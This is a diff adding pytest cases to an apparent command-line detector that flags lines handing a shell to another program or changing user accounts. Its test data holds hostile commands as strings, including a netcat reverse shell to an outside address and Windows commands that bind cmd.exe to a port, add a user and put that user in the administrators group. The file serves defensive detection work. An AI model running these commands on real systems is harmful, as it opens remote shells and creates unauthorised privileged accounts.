@@ -213,6 +213,35 @@ def test_wrapping_and_spelling_do_not_hide_a_trait(line: str) -> None:
     assert Trait.STOPS_SOMETHING in traits(line)
 
 
+@pytest.mark.parametrize(
+    ("line", "changes"),
+    [
+        (r'C:\Temp\jp.exe -l 1337 -p C:\Windows\System32\cmd.exe -a "/c net user bob P@ss1 /add" -t *', True),
+        (r'C:\Temp\gp.exe -cmd "cmd /c net localgroup administrators bob /add"', True),
+        (r"C:\Temp\ps.exe -i -c cmd", False),
+        ("nc -e /bin/bash 198.51.100.4 443", False),
+    ],
+)
+def test_a_shell_that_another_program_is_told_to_run_is_read_too(line: str, changes: bool) -> None:
+    found = traits(line)
+    assert Trait.HANDS_ON_A_SHELL in found
+    assert (Trait.CHANGES_ACCOUNTS in found) is changes
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        r"C:\App\agent.exe /c config.xml",
+        "taskkill /im cmd.exe /f",
+        "useradd -s /bin/bash bob",
+        r'forfiles /p D:\bak /c "cmd /c del @path"',
+        "docker exec -it db sh",
+    ],
+)
+def test_naming_a_shell_is_not_handing_it_on(line: str) -> None:
+    assert Trait.HANDS_ON_A_SHELL not in traits(line)
+
+
 @pytest.mark.parametrize("nothing", [None, "", " ", "svchost.exe -k netsvcs -p"])
 def test_ordinary_lines_have_no_trait(nothing: str | None) -> None:
     assert traits(nothing) == frozenset()
